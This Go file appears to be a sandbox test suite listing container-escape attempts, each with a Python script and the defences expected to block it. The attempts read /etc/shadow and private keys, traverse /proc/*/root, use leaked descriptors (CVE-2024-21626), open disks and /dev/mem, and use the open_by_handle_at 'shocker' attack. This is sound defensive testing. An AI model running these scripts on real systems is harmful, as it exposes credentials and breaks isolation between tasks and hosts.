package attack

var see = []Attack{
	{
		Name: "read /etc/shadow", Tries: "Reads the password hashes of the host's users.",
		Walls: walls("own root, landlock, own user"), Proof: ByRoot,
		Script: `return hosts("/etc/shadow")`,
	},
	{
		Name: "list accounts", Tries: "Reads the names of the host's users.",
		Walls:  walls("own root, landlock"),
		Script: `return hosts("/etc/passwd")`,
	},
	{
		Name: "list homes", Tries: "Lists /root, /home and the owner's home folder.",
		Walls: walls("own root, landlock"),
		Script: `
def found(dir):
    return same(dir) and os.listdir(dir)
return refused_all(*(lambda d=d: found(d) for d in ["/root", "/home", H["home"]]))`,
	},
	{
		Name: "read the node's key", Tries: "Reads the node's private key, which only its owner may read.",
		Walls: walls("own root, landlock, own user"), Proof: ByRoot,
		Script: `return bait(H["key"])`,
	},
	{
		Name: "read a user's file", Tries: "Reads a file of the owner's that everybody on the host may read.",
		Walls:  walls("own root, landlock"),
		Script: `return bait(H["secret"])`,
	},
	{
		Name: "read another task's folder", Tries: "Reads what another task, running at the same time, has in its writable folder.",
		Walls:  walls("own root, landlock"),
		Script: `return bait(H["other"])`,
	},
	{
		Name: "climb out of a mount", Tries: "Goes up from its mounts and its working folder by .. to the host's files.",
		Walls: walls("own root, landlock"),
		Script: `
up = "/.." * 20
return refused_all(*(lambda p=p: bait(p + up + H["secret"]) for p in [".", HERE, RW, RO, "/tmp", "/proc/self/cwd"]))`,
	},
	{
		Name: "follow a link in a mount", Tries: "Opens a symbolic link in its read-only folder that points at a file of the host.",
		Walls:  walls("own root, landlock"),
		Script: `return refused_all(lambda: bait(RO + "/link"), lambda: bait(RO + "/up"))`,
	},
	{
		Name: "plant a link and follow it", Tries: "Makes a symbolic link in its writable folder and opens the host's file through it.",
		Walls: walls("own root, landlock"),
		Script: `
os.symlink(H["secret"], RW + "/planted")
try: return bait(RW + "/planted")
finally: os.unlink(RW + "/planted")`,
	},
	{
		Name: "through another process's root", Tries: "Reads a host's file through /proc/*/root.",
		Walls: walls("own root, pid namespace, user namespace, landlock"), Proof: Bare,
		Script: `
pids = [str(H["pid"])] + [p for p in os.listdir("/proc") if p.isdigit()]
return refused_all(*(lambda p=p: bait("/proc/" + p + "/root" + H["secret"]) for p in pids))`,
	},
	{
		Name: "through another process's cwd", Tries: "Reads a host's file through /proc/*/cwd.",
		Walls: walls("own root, pid namespace, user namespace, landlock"), Proof: Bare,
		Script: `
pids = [str(H["pid"])] + [p for p in os.listdir("/proc") if p.isdigit()]
return refused_all(*(lambda p=p: bait("/proc/" + p + "/cwd" + "/.." * 20 + H["secret"]) for p in pids))`,
	},
	{
		Name: "through another process's descriptors", Tries: "Opens what other processes have open through /proc/*/fd.",
		Walls: walls("pid namespace, user namespace, landlock"), Proof: Bare,
		Script: `
import stat
def look(pid):
    for fd in os.listdir("/proc/%s/fd" % pid):
        name = "/proc/%s/fd/%s" % (pid, fd)
        if stat.S_ISREG(os.stat(name).st_mode) and H["token"].encode() in read(name): return "read descriptor %s of %s" % (fd, pid)
pids = [str(H["pid"])] + [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
return refused_all(*(lambda p=p: look(p) for p in pids))`,
	},
	{
		Name: "leaked descriptors", Tries: "Opens the host's files by a descriptor that a careless parent left open (CVE-2024-21626).",
		Walls: walls("closed descriptors"),
		Script: `
def look(fd):
    with open(os.open(H["secret"].lstrip("/"), os.O_RDONLY, dir_fd=fd), "rb") as f: return H["token"].encode() in f.read() and "by descriptor %d" % fd
def direct(fd): return H["token"].encode() in os.pread(fd, 100, 0) and "descriptor %d" % fd
return refused_all(*(lambda fd=fd, f=f: f(fd) for fd in range(3, 256) for f in [look, direct]))`,
	},
	{
		Name: "leaked working folder", Tries: "Reaches the host's files from a working folder that lies outside its root (CVE-2024-21626).",
		Walls: walls("own root, landlock"),
		Script: `
if os.getcwd().startswith("(unreachable)"): return os.getcwd()
return refused_all(lambda: bait("../" * 20 + H["secret"]), lambda: bait("/proc/self/cwd/" + "../" * 20 + H["secret"]))`,
	},
	{
		Name: "read the first process's environment", Tries: "Reads the variables, memory map or arguments of the sandbox's first process, where secrets might be.",
		Walls: walls("undumpable first process, landlock, no capabilities"),
		Script: `
first()
return refused_all(*(lambda n=n: read("/proc/1/" + n) and "read /proc/1/" + n for n in ["environ", "maps", "auxv", "mem"]))`,
	},
	{
		Name: "open a disk", Tries: "Opens the host's disks in /dev and reads their first bytes.",
		Walls: walls("own root, own user"), Proof: BareRoot,
		Script: `
import stat
if H["bare"] and not H["opens"]: raise Absent("root may open no disk here")
def disk(name):
    if stat.S_ISBLK(os.stat(name).st_mode): return read(name, 512) and "read " + name
names = ["/dev/" + n for n in os.listdir("/dev")] + ["/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/loop0", "/dev/dm-0"]
return refused_all(*(lambda n=n: disk(n) for n in names))`,
	},
	{
		Name: "open the machine's memory", Tries: "Opens /dev/mem, /dev/kmem, /dev/port and /proc/kcore.",
		Walls: walls("own root, own user"), Proof: BareRoot,
		Script: `
return refused_all(*(lambda n=n: read(n, 1) and "read " + n for n in ["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"]))`,
	},
	{
		Name: "make a disk's node", Tries: "Makes a block device node of the host's first disk and opens it.",
		Walls: walls("user namespace, seccomp"), Proof: BareRoot,
		Script: `
import stat
if H["bare"] and not H["opens"]: raise Absent("root may open no disk here")
name = RW + "/disk"
os.mknod(name, 0o600 | stat.S_IFBLK, H["disk"])
try: return os.close(os.open(name, os.O_RDONLY)) or "opened the disk"
finally: os.unlink(name)`,
	},
	{
		Name: "read the kernel's log", Tries: "Reads the kernel's messages by syslog(2), /dev/kmsg and /proc/kmsg.",
		Walls: walls("seccomp, user namespace"), Proof: BareRoot,
		Script: `
def call():
    buf = ctypes.create_string_buffer(4096)
    return raw("syslog", 3, buf, 4096) > 0 and "read it by syslog"
def kmsg():
    fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    return os.read(fd, 8192) and "read /dev/kmsg"
return refused_all(call, kmsg)`,
	},
	{
		Name: "find the kernel's addresses", Tries: "Reads addresses of the kernel's functions from /proc/kallsyms, /proc/modules or /proc/timer_list.",
		Walls: walls("masked proc, user namespace"), Proof: BareRoot,
		Script: `
def look(name):
    for line in read(name, 1 << 16).splitlines():
        words = line.split()
        if words and len(words[0]) == 16 and words[0].strip(b"0"): return name + ": " + line.decode()
return refused_all(*(lambda n=n: look(n) for n in ["/proc/kallsyms", "/proc/modules"]))`,
	},
	{
		Name: "read masked files of /proc", Tries: "Reads what /proc tells about the whole machine's hardware, keys and timers.",
		Walls: walls("masked proc"),
		Script: `
names = ["keys", "key-users", "timer_list", "latency_stats", "sched_debug", "interrupts", "partitions", "diskstats", "cmdline", "modules", "acpi/wakeup", "scsi/scsi", "asound/cards"]
return refused_all(*(lambda n=n: read("/proc/" + n, 10).strip(b"\0") and "read /proc/" + n for n in names))`,
	},
	{
		Name: "list the machine's hardware", Tries: "Reads serial numbers, disks and network addresses from /sys.",
		Walls: walls("own root, landlock"),
		Script: `
names = ["/sys/class/dmi/id", "/sys/block", "/sys/class/net", "/sys/devices/system", "/sys/bus/pci/devices", "/sys/firmware", "/sys/kernel"]
return refused_all(*(lambda n=n: os.listdir(n) and "listed " + n for n in names))`,
	},
	{
		Name: "learn which machine it is", Tries: "Reads the machine's identity.",
		Walls: walls("own root, landlock"),
		Script: `
names = ["/etc/machine-id", "/var/lib/dbus/machine-id", "/etc/hostname", "/etc/ssh/ssh_host_ed25519_key.pub"]
return refused_all(*(lambda n=n: hosts(n) for n in names))`,
	},
	{
		Name: "learn the host's name", Tries: "Asks for the host's name.",
		Walls: walls("uts namespace"),
		Script: `
return os.uname().nodename == H["hostname"] and "it is " + H["hostname"]`,
	},
	{
		Name: "learn the host's control groups", Tries: "Reads from /proc/self/cgroup where on the host it is held.",
		Walls: walls("cgroup namespace"),
		Script: `
for line in read("/proc/self/cgroup").decode().splitlines():
    path = line.split(":", 2)[2]
    if path != "/" and not path.startswith("/.."): return line`,
	},
	{
		Name: "take keys from the keyring", Tries: "Looks for the owner's key in the session's and the user's keyring.",
		Walls: walls("seccomp, user namespace"), Proof: Bare,
		Script: `
def search(ring):
    key = raw("keyctl", 10, ring, b"user", H["keyname"].encode(), 0)
    buf = ctypes.create_string_buffer(100)
    raw("keyctl", 11, key, buf, 100)
    return H["token"].encode() in buf.raw and "read the key from %d" % ring
return refused_all(*(lambda r=r: search(r) for r in [-3, -4, -5]))`,
	},
	{
		Name: "attach shared memory", Tries: "Attaches a System V shared memory segment of the host's that everybody may read.",
		Walls: walls("ipc namespace, seccomp"),
		Script: `
shm = raw("shmget", H["shm"], 0, 0)
libc.shmat.restype = ctypes.c_void_p
at = libc.shmat(shm, None, 0o10000)
if at == ctypes.c_void_p(-1).value: raise OSError(ctypes.get_errno(), "shmat")
return H["token"].encode() in ctypes.string_at(at, 100) and "read segment %d" % shm`,
	},
	{
		Name: "open a message queue", Tries: "Opens a POSIX message queue of the host's that everybody may read.",
		Walls: walls("ipc namespace, seccomp, landlock"),
		Script: `
return raw("mq_open", H["mq"].encode(), os.O_RDONLY, 0, None) >= 0 and "opened the host's queue"`,
	},
	{
		Name: "open files by handle", Tries: "Opens the host's root by its file handle, round every mount (the attack called shocker).",
		Walls: walls("seccomp, user namespace"), Proof: BareRoot,
		Script: `
def shock(mount):
    at = os.open(mount, os.O_RDONLY)
    for ino in H["roots"]:
        for kind, body in [(1, struct.pack("<II", ino, 0)), (0x81, struct.pack("<QI", ino, 0))]:
            handle = ctypes.create_string_buffer(struct.pack("<Ii", len(body), kind) + body)
            try: fd = raw("open_by_handle_at", at, handle, os.O_RDONLY | os.O_DIRECTORY)
            except OSError as e:
                if e.errno != errno.ESTALE: raise
                continue
            if "etc" in os.listdir(fd): return "listed the host's root"
return refused_all(*(lambda m=m: shock(m) for m in [RO, RW, HERE]))`,
	},
}
